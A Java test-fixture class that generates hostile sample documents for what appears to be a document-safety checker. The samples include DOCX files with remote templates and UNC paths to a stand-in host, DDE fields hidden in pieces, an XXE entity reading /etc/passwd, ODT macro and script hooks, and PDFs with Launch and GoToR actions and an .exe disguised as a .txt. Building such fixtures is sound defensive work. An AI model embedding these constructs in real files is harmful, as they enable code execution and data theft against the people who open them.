package cymru.pythefnos.meeting.paper.document.corpus;

import static cymru.pythefnos.meeting.paper.document.word.WordFile.p;

import cymru.pythefnos.meeting.paper.document.tika.Samples;
import cymru.pythefnos.meeting.paper.document.word.WordFile;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;

/** Files that would do something to whoever opens them, each in another place or disguise. */
final class HostileOnes {
    private static final String EXTERNAL = "TargetMode=\"External\"";

    private HostileOnes() {}

    static void addTo(Map<String, byte[]> all) {
        words(all);
        fields(all);
        texts(all);
        pdfs(all);
    }

    private static void words(Map<String, byte[]> all) {
        all.put("hostile-macros.docx", Samples.docxWith("word/vbaProject.bin", new byte[9]));
        all.put("hostile-template.docx", related("attachedTemplate", "https://a.example/x.dotm"));
        all.put("hostile-frame.docx", related("frame", "https://a.example/x.htm"));
        all.put(
                "hostile-header-image.docx",
                WordFile.of(p("a"))
                        .file(
                                "word/_rels/header1.xml.rels",
                                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                                        + "relationships\"><Relationship Id=\"i\" Type=\"http://x/image\" Target=\"\\\\a.example\\x.png\" "
                                        + EXTERNAL + "/></Relationships>")
                        .bytes());
        all.put(
                "hostile-two-modes.docx",
                WordFile.of(p("a"))
                        .related(
                                "o",
                                "oleObject",
                                "https://a.example/x",
                                "xmlns:x=\"urn:x\" x:TargetMode=\"Internal\" " + EXTERNAL)
                        .bytes());
        all.put(
                "hostile-alt-chunk.docx",
                WordFile.of("<w:altChunk r:id=\"c\"/>").bytes());
        all.put("hostile-ole.docx", Samples.docxWith("word/embeddings/oleObject1.bin", Samples.packedProgram()));
        all.put(
                "hostile-drawing.docx",
                WordFile.of("<w:p><w:r><w:pict><v:shape><v:imagedata src=\"https://a.example/x.png\"/>"
                                + "</v:shape></w:pict></w:r></w:p>")
                        .bytes());
        all.put(
                "hostile-entity.docx",
                WordFile.of("")
                        .file("word/document.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")
                        .bytes());
        all.put("hostile-cut-off.docx", Arrays.copyOf(Samples.docx(), 900));
    }

    private static byte[] related(String type, String target) {
        return WordFile.of(p("a")).related("x", type, target, EXTERNAL).bytes();
    }

    private static void fields(Map<String, byte[]> all) {
        String begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
        String end = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        String code = "<w:r><w:instrText>%s</w:instrText></w:r>";
        all.put(
                "hostile-dde-in-pieces.docx",
                WordFile.of("<w:p>" + begin + code.formatted(" D") + code.formatted("DE") + "</w:p><w:p>"
                                + code.formatted("AUTO c:\\\\x") + end + "</w:p>")
                        .bytes());
        all.put(
                "hostile-dde-half-made.docx",
                WordFile.of("<w:p>" + begin + code.formatted(" DDE") + begin + code.formatted("QUOTE AUTO") + end
                                + code.formatted(" c:\\\\x") + end + "</w:p>")
                        .bytes());
        all.put(
                "hostile-dde-disguised.docx",
                WordFile.of("<w:p>"
                                + begin.replace("<w:fldChar ", "<w:fldChar xmlns:x=\"urn:x\" x:fldCharType=\"end\" ")
                                + code.formatted("DDEAUTO x") + end + "</w:p>")
                        .bytes());
        all.put(
                "hostile-dde-elsewhere.docx",
                elsewhere("<w:p>" + begin + code.formatted("DDEAUTO x") + end + "</w:p>"));
        all.put(
                "hostile-picture-field.docx",
                WordFile.of("<w:p><w:fldSimple w:instr=\"INCLUDEPICTURE &quot;https://a.example/x&quot;\"/>" + "</w:p>")
                        .bytes());
    }

    /** In a part whose name doesn't say that it is XML. */
    private static byte[] elsewhere(String body) {
        return WordFile.of(p("a"))
                .file(
                        "word/main.dat",
                        "\n<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                                + "<w:body>" + body + "</w:body></w:document>")
                .related("m", "header", "main.dat", "")
                .bytes();
    }

    private static void texts(Map<String, byte[]> all) {
        all.put("hostile-script.odt", Samples.odtWithScript());
        all.put(
                "hostile-event.odt",
                Samples.odt("", "<text:p><script:event-listener xlink:href=\"vnd.sun.star.script:x\"/></text:p>"));
        all.put(
                "hostile-macro-link.odt",
                Samples.odt("", "<text:p><text:a xlink:href=\"macro:///S.M.Main()\">a</text:a></text:p>"));
        all.put(
                "hostile-image.odt",
                Samples.odt(
                        "",
                        "<text:p><draw:frame><draw:image xlink:href=\"https://a.example/x\"/></draw:frame></text:p>"));
        all.put(
                "hostile-floating-frame.odt",
                Samples.odt(
                        "",
                        "<text:p><draw:frame><draw:floating-frame xlink:href=\"https://a.example\"/></draw:frame></text:p>"));
        all.put(
                "hostile-font.odt",
                Samples.odt(
                        "<style:font-face><svg:font-face-uri xlink:href=\"https://a.example/f.ttf\"/></style:font-face>",
                        "<text:p>a</text:p>"));
        all.put(
                "hostile-form.odt",
                Samples.odt("", "<text:p><draw:form xlink:href=\"https://a.example/take\"/></text:p>"));
        all.put("hostile-program.txt", Samples.PROGRAM);
        all.put("hostile-page.txt", "<!DOCTYPE html><html><script>x</script></html>".getBytes(StandardCharsets.UTF_8));
    }

    private static void pdfs(Map<String, byte[]> all) {
        all.put("hostile-script.pdf", Samples.pdfWithScript());
        all.put("hostile-password.pdf", Samples.pdfWithPassword());
        all.put("hostile-cut-off.pdf", Arrays.copyOf(Samples.pdf(), Samples.pdf().length - 40));
        all.put(
                "hostile-bookmark-launch.pdf",
                pdf((catalog, page) -> catalog.setItem(
                        COSName.OUTLINES, of("First", of("Next", of("First", of("A", action("Launch"))))))));
        all.put(
                "hostile-field-leaves.pdf",
                pdf((catalog, page) -> catalog.setItem(
                        COSName.ACRO_FORM,
                        of("Fields", array(of("Kids", array(of("AA", of("Bl", action("GoToR"))))))))));
        all.put(
                "hostile-page-opens.pdf",
                pdf((catalog, page) -> page.setItem(COSName.AA, of("O", chain(action("GoToE"))))));
        all.put(
                "hostile-import.pdf",
                pdf((catalog, page) ->
                        catalog.setItem(COSName.NAMES, of("Dests", of("Names", array(action("ImportData")))))));
        all.put(
                "hostile-rendition.pdf",
                pdf((catalog, page) -> page.setItem(COSName.ANNOTS, array(of("AA", of("PO", action("Rendition")))))));
        all.put("hostile-two-names.pdf", pdf((catalog, page) -> page.setItem(COSName.ANNOTS, array(packed()))));
        all.put("hostile-share.pdf", pdf((catalog, page) -> {
            COSDictionary file = new COSDictionary();
            file.setItem(COSName.UF, new COSString("\\\\a.example\\x"));
            COSDictionary action = action("GoToR");
            action.setItem(COSName.F, file);
            page.setItem(COSName.ANNOTS, array(of("A", action)));
        }));
    }

    /** One reader shows the first name of the file, another runs it by the second. */
    private static COSDictionary packed() {
        COSDictionary file = of("EF", of("F", new org.apache.pdfbox.cos.COSStream()));
        file.setString(COSName.UF, "nodiadau.txt");
        file.setString(COSName.F, "nodiadau.exe");
        return of("FS", file);
    }

    private interface Making {
        void on(COSDictionary catalog, COSDictionary page);
    }

    private static byte[] pdf(Making making) {
        return PdfOnes.changed(new byte[0], document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            making.on(catalog(document), page.getCOSObject());
        });
    }

    private static COSDictionary catalog(PDDocument document) {
        return document.getDocumentCatalog().getCOSObject();
    }

    private static COSDictionary action(String kind) {
        COSDictionary action = new COSDictionary();
        action.setName(COSName.S, kind);
        return action;
    }

    private static COSDictionary chain(COSDictionary last) {
        COSDictionary first = action("GoTo");
        first.setItem(COSName.getPDFName("Next"), array(last));
        return first;
    }

    private static COSDictionary of(String key, COSBase value) {
        COSDictionary dictionary = new COSDictionary();
        dictionary.setItem(COSName.getPDFName(key), value);
        return dictionary;
    }

    private static COSArray array(COSBase only) {
        COSArray array = new COSArray();
        array.add(only);
        return array;
    }
}
